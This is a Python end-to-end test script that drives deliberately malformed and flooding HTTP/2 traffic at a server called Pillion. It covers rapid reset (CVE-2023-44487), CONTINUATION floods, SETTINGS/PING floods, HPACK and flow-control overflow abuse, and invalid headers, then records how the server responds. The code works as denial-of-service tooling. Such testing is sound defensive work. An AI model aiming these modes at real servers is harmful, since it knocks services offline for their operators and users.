#!/usr/bin/env python3
"""A scripted HTTP/2 (h2c, prior knowledge) attacker for Pillion's e2e tests.

Usage: h2_attack.py HOST:PORT MODE [COUNT]

Opens one connection, sends the connection preface, then the abuse named by MODE, built with
the h2 project's own libraries (h2 for the preface and well-formed requests, hyperframe and
hpack for the frames a well-behaved h2 stack refuses to send). It then reads what the server
says until the server closes or goes quiet, and prints one JSON line:

  {"mode", "sent", "send_blocked", "goaway": error code or null, "goaway_debug",
   "closed": bool (EOF or reset seen), "rst": [error codes], "statuses": [:status values],
   "ping_acks", "settings_acks"}

Modes:
  rapid_reset       COUNT x (HEADERS + RST_STREAM CANCEL), CVE-2023-44487
  continuation      HEADERS without END_HEADERS, then COUNT CONTINUATION frames
  settings_flood    COUNT SETTINGS frames in batches, reading only between batches
  ping_flood        COUNT PING frames in batches, reading only between batches
  header_table      SETTINGS_HEADER_TABLE_SIZE = 2^32-1 and a request (must still work), then
                    a header block resizing the server's decoder table past what it allowed
  big_headers       a request whose header list is COUNT KiB (over max_header_list_size)
  window_stream     a request in flight, a WINDOW_UPDATE pushing its stream's window past
                    2^31-1, then a second request on the same connection
  window_overflow   a WINDOW_UPDATE pushing the connection's window past 2^31-1
  normal            one GET / (a control: the server answers it)
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.settings
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

READ_QUIET = 3.0  # seconds of silence after which we stop reading
READ_LIMIT = 20.0  # hard cap on the reading phase
SEND_TIMEOUT = 5.0  # a send blocked this long means the server stopped reading us


def request_headers(authority, path="/", extra=()):
    return [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)] + list(
        extra
    )


class Attack:
    def __init__(self, addr):
        host, port = addr.rsplit(":", 1)
        self.authority = addr
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=cfg)
        self.encoder = hpack.Encoder()
        self.sent = 0
        self.send_blocked = False
        self.result = {
            "goaway": None,
            "goaway_debug": "",
            "closed": False,
            "rst": [],
            "statuses": [],
            "ping_acks": 0,
            "settings_acks": 0,
        }
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 1 << 20
        self.buf = b""

    def preface(self, settings=None):
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.send(self.conn.data_to_send())

    def send(self, data, frames=0):
        self.sent += frames
        self.sock.settimeout(SEND_TIMEOUT)
        try:
            self.sock.sendall(data)
        except socket.timeout:
            self.send_blocked = True
            return False
        except OSError:
            self.result["closed"] = True
            return False
        return True

    def headers_block(self, headers):
        return self.encoder.encode(headers)

    def request(self, sid, path="/", end_stream=True):
        f = HeadersFrame(sid, self.headers_block(request_headers(self.authority, path)))
        f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        return f.serialize()

    def poll(self):
        """Reads what has arrived without waiting."""
        self.sock.setblocking(False)
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.result["closed"] = True
                    break
                self.buf += chunk
        except BlockingIOError:
            pass
        except OSError:
            self.result["closed"] = True
        self.parse()

    def read_all(self, done=lambda r: False):
        """Reads until EOF, READ_QUIET of silence, READ_LIMIT, or until done(result) holds."""
        deadline = time.monotonic() + READ_LIMIT
        self.sock.settimeout(READ_QUIET)
        while time.monotonic() < deadline:
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                return
            except OSError:
                self.result["closed"] = True
                return
            if not chunk:
                self.result["closed"] = True
                return
            self.buf += chunk
            self.parse()
            if done(self.result):
                return

    def parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            r = self.result
            if isinstance(frame, GoAwayFrame):
                r["goaway"] = frame.error_code
                r["goaway_debug"] = frame.additional_data.decode("utf-8", "replace")
            elif isinstance(frame, RstStreamFrame):
                r["rst"].append(frame.error_code)
            elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
                r["ping_acks"] += 1
            elif isinstance(frame, SettingsFrame) and "ACK" in frame.flags:
                r["settings_acks"] += 1
            elif isinstance(frame, HeadersFrame):
                # The server sends no CONTINUATION for our small responses.
                for k, v in self.decoder.decode(frame.data, raw=True):
                    if k == b":status":
                        r["statuses"].append(int(v))


def run(addr, mode, count):
    a = Attack(addr)
    if mode == "rapid_reset":
        a.preface()
        out = bytearray()
        for i in range(count):
            sid = 1 + 2 * i
            out += a.request(sid)
            out += RstStreamFrame(sid, error_code=8).serialize()  # CANCEL
        a.send(bytes(out), 2 * count)
        a.read_all()
    elif mode == "continuation":
        a.preface()
        # One header whose value never ends: the block stays incomplete frame after frame.
        block = a.headers_block(request_headers(a.authority)) + b"\x00\x7f\xff\xff\xff\x0f"
        h = HeadersFrame(1, block)
        out = bytearray(h.serialize())
        for _ in range(count):
            out += ContinuationFrame(1, b"a" * 1024).serialize()
        a.send(bytes(out), 1 + count)
        a.read_all()
    elif mode in ("settings_flood", "ping_flood"):
        a.preface()
        one = (
            SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
            if mode == "settings_flood"
            else PingFrame(0, opaque_data=b"flooding").serialize()
        )
        # Sent in batches of 1,000 frames: a server with no budget for them keeps answering
        # (or, if it queues an ACK per frame, grows); one with a budget says GOAWAY.
        batch = 1000
        for _ in range(0, count, batch):
            if not a.send(one * batch, batch):
                break
            # Between batches, take in whatever came back, as a client would notice a GOAWAY.
            a.poll()
            if a.result["goaway"] is not None or a.result["closed"]:
                break
        if not a.send_blocked:
            a.read_all()
    elif mode == "header_table":
        a.preface({h2.settings.SettingCodes.HEADER_TABLE_SIZE: 0xFFFFFFFF})
        a.send(a.request(1), 1)
        a.read_all(lambda r: r["statuses"])
        if not a.result["statuses"]:
            print(json.dumps(dict(mode=mode, sent=a.sent, send_blocked=a.send_blocked, **a.result)))
            return
        # A dynamic table size update (first in a block) of 2^30 bytes: the server allowed 4096.
        block = b"\x3f" + bytes([0xE1, 0xFF, 0xFF, 0xFF, 0x03]) + a.headers_block(request_headers(a.authority))
        f = HeadersFrame(3, block)
        f.flags.add("END_HEADERS")
        f.flags.add("END_STREAM")
        a.send(f.serialize(), 1)
        a.read_all()
    elif mode == "big_headers":
        a.preface()
        extra = [("x-big-%d" % i, "b" * 1000) for i in range(count)]
        block = a.headers_block(request_headers(a.authority, extra=extra))
        size = 16384
        first = HeadersFrame(1, block[:size])
        first.flags.add("END_STREAM")
        rest = [block[i : i + size] for i in range(size, len(block), size)]
        if not rest:
            first.flags.add("END_HEADERS")
        out = bytearray(first.serialize())
        for i, piece in enumerate(rest):
            c = ContinuationFrame(1, piece)
            if i == len(rest) - 1:
                c.flags.add("END_HEADERS")
            out += c.serialize()
        a.send(bytes(out), 1 + len(rest))
        a.read_all(lambda r: r["statuses"] or r["rst"])
    elif mode == "window_stream":
        a.preface()
        # A request still in flight (the backend delays), so its stream is open, then its
        # window pushed past 2^31-1: a stream error; a later request on the connection works.
        a.send(a.request(1, "/delay?ms=1000"), 1)
        a.send(WindowUpdateFrame(1, window_increment=0x7FFFFFFF).serialize(), 1)
        a.send(a.request(3), 1)
        a.read_all(lambda r: r["rst"] and r["statuses"])
    elif mode == "window_overflow":
        a.preface()
        a.send(WindowUpdateFrame(0, window_increment=0x7FFFFFFF).serialize(), 1)
        a.read_all()
    elif mode in ("connection_header", "te_header"):
        a.preface()
        bad = ("connection", "keep-alive") if mode == "connection_header" else ("te", "gzip")
        f = HeadersFrame(1, a.headers_block(request_headers(a.authority, extra=[bad])))
        f.flags.add("END_HEADERS")
        f.flags.add("END_STREAM")
        a.send(f.serialize() + a.request(3), 2)
        a.read_all(lambda r: r["rst"] and r["statuses"])
    elif mode == "length_mismatch":
        a.preface()
        head = [(":method", "POST"), (":scheme", "http"), (":authority", a.authority), (":path", "/")]
        f = HeadersFrame(1, a.headers_block(head + [("content-length", "10")]))
        f.flags.add("END_HEADERS")
        d = DataFrame(1, b"abc")
        d.flags.add("END_STREAM")
        a.send(f.serialize() + d.serialize() + a.request(3), 3)
        a.read_all(lambda r: r["rst"] and r["statuses"])
    elif mode == "normal":
        a.preface()
        a.send(a.request(1), 1)
        a.read_all(lambda r: r["statuses"])
    else:
        raise SystemExit("unknown mode " + mode)
    print(json.dumps(dict(mode=mode, sent=a.sent, send_blocked=a.send_blocked, **a.result)))


if __name__ == "__main__":
    if len(sys.argv) < 3:
        raise SystemExit(__doc__)
    run(sys.argv[1], sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 1000)
